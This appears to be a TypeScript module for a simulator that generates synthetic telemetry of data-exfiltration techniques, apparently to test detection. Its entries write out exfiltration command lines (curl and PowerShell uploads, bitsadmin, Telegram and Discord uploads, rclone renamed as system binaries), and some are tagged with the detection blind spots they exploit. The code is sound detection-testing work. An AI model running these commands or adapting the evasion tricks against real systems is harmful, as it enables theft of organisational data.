import type { Heist } from './heist.ts';
import { answer, implant, mega, rclone, sharing, signedRclone, stagedCopy, to } from './procedures.ts';
import { HOUR, MINUTE, SECOND } from './scene.ts';
import type { BlindSpot } from './truth.ts';

export interface TheftKind {
  readonly kind: string;
  /** What is hidden by the procedure itself. */
  readonly blindSpot?: BlindSpot;
  /** `nth`: which day of the theft. */
  readonly play: (heist: Heist, nth: number) => void;
  /** Days that it takes, played once on each of them; by default it ends on its first. */
  readonly days?: number;
  readonly offHours?: boolean;
}

export const THEFT_KINDS: readonly TheftKind[] = [
  { kind: 'rclone to MEGA', play: (h) => rclone(h, h.pack(), mega(h), 'mega:in') },
  {
    kind: 'rclone to a new bucket',
    play: (h) => rclone(h, h.pack(), `${h.bucket()}.s3.us-east-1.amazonaws.com`, 's3:in', { chunk: 5_242_880 }),
  },
  {
    kind: 'rclone renamed',
    play: (h) =>
      rclone(h, h.pack(), h.ownServer(), 'dav:in', {}, h.random.pick(['svhost.exe', 'chrome_upd.exe', 'onedrv.exe'])),
  },
  {
    kind: 'MEGAsync',
    play: (h) => {
      const packed = h.pack();
      h.sendFile(
        {
          image: '~\\AppData\\Local\\MEGAsync\\MEGAsync.exe',
          originalName: 'MEGAsync.exe',
          product: 'MEGAsync',
          company: 'Mega Limited',
          signer: 'Mega Limited',
          hello: 'openssl',
        },
        '"MEGAsync.exe"',
        packed,
        to(h, mega(h), packed),
      );
    },
  },
  {
    kind: 'WinSCP over SSH',
    play: (h) => {
      const packed = h.pack();
      h.sendFile(
        h.dropped('WinSCP.com', 'openssl', { originalName: 'winscp.com', product: 'WinSCP', signer: 'Martin Prikryl' }),
        `WinSCP.com /script=${h.folder}\\s.txt`,
        packed,
        to(h, h.ownServer(), packed, { port: 22, protocol: 'ssh' }),
      );
    },
  },
  {
    kind: 'curl to file sharing',
    play: (h) => {
      const packed = h.pack();
      const name = sharing(h);
      h.sendFile('curl', `curl -k -F "file=@${packed.path}" https://${name}`, packed, to(h, name, packed));
    },
  },
  {
    kind: 'PowerShell to own server',
    play: (h) => {
      const packed = h.pack(h.at, 'powershell');
      const name = h.ownServer();
      h.sendFile(
        'powershell',
        `powershell -c "Invoke-WebRequest -Uri https://${name}/up -Method POST -InFile ${packed.path}"`,
        packed,
        to(h, name, packed),
      );
    },
  },
  {
    kind: 'PowerShell to Dropbox',
    play: (h) => {
      const packed = h.pack();
      h.sendFile(
        'powershell',
        `powershell -ep bypass -File ${h.folder}\\up.ps1`,
        packed,
        to(h, 'content.dropboxapi.com', packed),
      );
    },
  },
  {
    kind: 'bitsadmin',
    play: (h) => {
      const { scene } = h;
      const packed = h.pack();
      const name = h.ownServer();
      const at = packed.end + h.pause;
      scene.end(
        scene.start('bitsadmin', at, {
          parent: h.other,
          commandLine: `bitsadmin /transfer j /upload https://${name}/u ${packed.path}`,
        }),
        at + SECOND,
      );
      // The service does the sending.
      const service = scene.resident('svchost');
      scene.read(service, at + 2 * SECOND, packed.path, { size: packed.size });
      scene.send(service, at + 3 * SECOND, to(h, name, packed));
    },
  },
  {
    kind: 'restic',
    play: (h) => {
      // Packs while it sends: what is staged is a copied folder.
      const folder = stagedCopy(h);
      const name = `${h.bucket()}.s3.eu-central-2.wasabisys.com`;
      h.sendFile(
        h.dropped('restic.exe', 'go', { originalName: 'restic.exe' }),
        `restic.exe -r s3:https://${name}/r backup ${folder} --password-file p.txt`,
        { path: folder, size: 0, end: h.at + 5 * MINUTE },
        { name, sent: h.wire(h.size * 0.8), ...answer },
      );
    },
  },
  {
    kind: 'own implant',
    play: (h) => implant(h, [`${h.name}svc.exe`, 'openssl'], { selfSigned: h.random.chance(0.4) }),
  },
  { kind: 'Go implant', play: (h) => implant(h, ['updater.exe', 'go'], {}) },
  {
    kind: 'injected system program',
    play: (h) => implant(h, ['x', 'go'], { hello: h.random.pick(['go', 'openssl']) }, 'rundll32'),
  },
  {
    kind: 'injected browser',
    play: (h) => {
      const packed = h.pack();
      const browser = h.scene.resident(h.scene.host.browser);
      const at = packed.end + h.pause;
      h.scene.read(browser, at, packed.path, { size: packed.size });
      h.scene.send(browser, at + SECOND, to(h, h.ownServer(), packed, { hello: 'go' }));
    },
  },
  {
    kind: 'poses as a browser',
    play: (h) => {
      const packed = h.pack();
      h.sendFile(
        h.dropped('chrome.exe', 'go', { originalName: 'client.exe' }),
        `${h.folder}\\chrome.exe ${packed.path}`,
        packed,
        to(h, h.ownServer(), packed),
      );
    },
  },
  {
    kind: 'Python tool',
    play: (h) => {
      const packed = h.pack();
      const name = sharing(h);
      h.sendFile(
        h.dropped('python.exe', 'python', {
          originalName: 'python.exe',
          product: 'Python',
          signer: 'Python Software Foundation',
        }),
        `python.exe up.py ${packed.path} https://${name}`,
        packed,
        to(h, name, packed),
      );
    },
  },
  {
    kind: 'own Go tool',
    play: (h) => {
      const packed = h.pack();
      h.sendFile(h.dropped('up.exe', 'go'), `up.exe ${packed.path}`, packed, to(h, h.ownServer(), packed));
    },
  },
  {
    kind: 'cloud tool, new tenant',
    play: (h) => {
      const packed = h.pack();
      const name = `${h.bucket().replace('-', '')}.blob.core.windows.net`;
      h.sendFile(
        'azcopy',
        `azcopy copy ${packed.path} "https://${name}/in?sv=2024"`,
        packed,
        to(h, name, packed, { chunk: 8_388_608 }),
      );
    },
  },
  {
    kind: 'Telegram bot',
    play: (h) => {
      const packed = h.pack(h.at, undefined, Math.min(h.size, 45e6));
      h.sendFile(
        'curl',
        `curl -F document=@${packed.path} https://api.telegram.org/bot/sendDocument`,
        packed,
        to(h, 'api.telegram.org', packed),
      );
    },
  },
  {
    kind: 'Discord webhook',
    play: (h) => {
      const packed = h.pack(h.at, 'powershell', Math.min(h.size, 20e6));
      h.sendFile('powershell', `powershell -w hidden -File ${h.folder}\\w.ps1`, packed, to(h, 'discord.com', packed));
    },
  },
  {
    kind: 'slow, over days',
    days: 5,
    play: (h) => {
      for (let i = 0; i < 2; i++) {
        const at = h.at + i * 3 * HOUR;
        const packed = h.pack(at, undefined, h.size / 10, `${h.name}${i}`);
        rclone(h, packed, 'storage.bytehaven.net', 'dav:in', {}, 'rclone.exe', packed.end + h.pause / 2);
      }
    },
  },
  {
    kind: 'split volumes',
    play: (h) => {
      const { scene } = h;
      const volume = 10e6;
      const path = `${h.folder}\\${h.name}.7z`;
      const size = Math.min(h.size, 200e6);
      const packer = h.packer('sevenZip', h.at, `7z a -v10m -p${h.name} ${path} D:\\Data`);
      const name = h.ownServer();
      const sender = scene.start(h.dropped('up.exe', 'go'), h.at + MINUTE, {
        parent: h.other,
        commandLine: `up.exe ${h.folder}`,
      });
      let at = h.at + 2 * MINUTE;
      for (let part = 1, left = size; left > 0; part++, left -= volume) {
        const bytes = Math.min(volume, left);
        const piece = `${path}.${String(part).padStart(3, '0')}`;
        scene.write(packer, h.at + part * SECOND, piece, { size: bytes });
        scene.read(sender, at, piece, { size: bytes });
        at = scene.send(sender, at, { name, sent: h.wire(bytes), ...answer }) + 2 * SECOND;
      }
    },
  },
  {
    kind: 'chunks, many connections',
    play: (h) => {
      const { scene } = h;
      const packed = h.pack(h.at, undefined, Math.min(h.size, 120e6));
      const name = h.ownServer();
      const sender = scene.start('powershell', packed.end + h.pause, {
        parent: h.other,
        commandLine: `powershell -File ${h.folder}\\c.ps1`,
      });
      scene.read(sender, packed.end + MINUTE, packed.path, { size: packed.size });
      let at = packed.end + 31 * MINUTE;
      for (let left = packed.size; left > 0; left -= 4e6)
        at = scene.send(sender, at, { name, sent: h.wire(Math.min(4e6, left)), ...answer }) + 20 * SECOND;
    },
  },
  {
    kind: 'base64',
    play: (h) => {
      const { scene } = h;
      const packed = h.pack(h.at, undefined, Math.min(h.size, 150e6));
      const text = `${h.folder}\\${h.name}.txt`;
      scene.end(
        h.packer('certutil', packed.end + 5 * SECOND, `certutil -encode ${packed.path} ${text}`),
        packed.end + 9 * SECOND,
      );
      const name = h.ownServer();
      h.sendFile('curl', `curl -d @${text} https://${name}/p`, packed, {
        name,
        sent: h.wire(packed.size * 1.354),
        ...answer,
      });
    },
  },
  {
    kind: 'picture that is an archive',
    play: (h) => {
      const { scene } = h;
      const path = `${h.folder}\\${h.name}.jpg`;
      const packer = h.packer('rar', h.at, `rar.exe a -hpx ${path} D:\\Data`);
      scene.write(packer, h.at + SECOND, path, { size: h.size, mimeType: 'application/vnd.rar' });
      const packed = { path, size: h.size, end: h.at + MINUTE };
      h.sendFile('curl', `curl -T ${path} https://web.up`, packed, to(h, h.ownServer(), packed));
    },
  },
  {
    kind: 'QUIC',
    play: (h) => {
      const packed = h.pack();
      h.sendFile(
        h.dropped('q.exe', 'go'),
        `q.exe ${packed.path}`,
        packed,
        to(h, h.ownServer(), packed, { transport: 'udp', protocol: 'quic' }),
      );
    },
  },
  {
    kind: 'at night',
    offHours: true,
    play: (h) => {
      const packed = h.pack();
      h.sendFile('curl', `curl -T ${packed.path} https://drop`, packed, to(h, h.ownServer(), packed));
    },
  },
  {
    kind: 'address without a name',
    play: (h) => {
      const packed = h.pack();
      h.sendFile(h.dropped('s.exe', 'openssl'), `s.exe ${packed.path}`, packed, {
        ip: h.ownServer(),
        sent: h.wire(packed.size),
        ...answer,
        selfSigned: true,
      });
    },
  },
  {
    kind: 'folder, not packed',
    play: (h) => {
      const folder = stagedCopy(h);
      const name = `${h.bucket()}.s3.us-west-2.amazonaws.com`;
      h.sendFile(
        h.dropped('rclone.exe', 'go', signedRclone),
        `rclone.exe copy ${folder} s3:in`,
        { path: folder, size: 0, end: h.at + 5 * MINUTE },
        { name, sent: h.wire(h.size), ...answer },
      );
    },
  },
  {
    kind: 'packed in memory',
    blindSpot: 'nothing staged',
    play: (h) => {
      const name = h.ownServer();
      h.sendFile(
        'powershell',
        `powershell -nop -w hidden -File ${h.folder}\\m.ps1`,
        { path: '', size: 0, end: h.at },
        { name, sent: h.wire(h.size), ...answer },
      );
    },
  },
  {
    kind: 'packed two days before',
    blindSpot: 'beyond horizon',
    days: 3,
    play: (h, nth) => {
      const size = Math.min(h.size, 90e6);
      if (nth === 0) h.pack(h.at, '7z', size);
      if (nth < 2) return;
      const packed = { path: `${h.folder}\\${h.name}.7z`, size, end: h.at };
      h.sendFile('curl', `curl -T ${packed.path} https://drop`, packed, to(h, h.ownServer(), packed));
    },
  },
  {
    kind: 'with the browser',
    blindSpot: 'browser',
    play: (h) => {
      const packed = h.pack();
      const browser = h.scene.resident(h.scene.host.browser);
      const at = packed.end + h.pause;
      h.scene.read(browser, at, packed.path, { size: packed.size });
      h.scene.send(browser, at, to(h, 'www.swisstransfer.com', packed));
    },
  },
  {
    kind: 'through the usual sync client',
    blindSpot: 'usual destination',
    play: (h) => {
      const packed = h.pack();
      const sync = h.scene.resident('onedrive');
      h.scene.send(
        sync,
        packed.end + h.pause,
        to(h, `${h.scene.organisation.name}-my.sharepoint.com`, packed, { chunk: 10_485_760 }),
      );
    },
  },
];
